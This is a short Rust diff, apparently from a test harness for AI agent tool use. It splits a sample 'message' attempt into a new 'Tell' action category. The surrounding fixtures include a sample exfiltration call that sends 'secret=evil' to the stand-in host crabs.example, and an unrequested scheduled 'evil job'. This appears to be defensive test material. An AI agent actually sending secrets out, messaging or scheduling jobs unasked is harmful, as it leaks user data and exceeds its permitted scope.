@@ -93,8 +93,10 @@ fn of_act(act: Act) -> Vec<Attempt> {
             "secret=evil",
             json!({"url": "http://crabs.example/?secret=evil"}),
         )],
+        Act::Tell => {
+            vec![attempt("message", "evil text", json!({"to": "home:2", "text": "evil text"}))]
+        }
         Act::ActOutside => vec![
-            attempt("message", "evil text", json!({"to": "home:2", "text": "evil text"})),
             attempt(
                 "schedule",
                 "evil job",
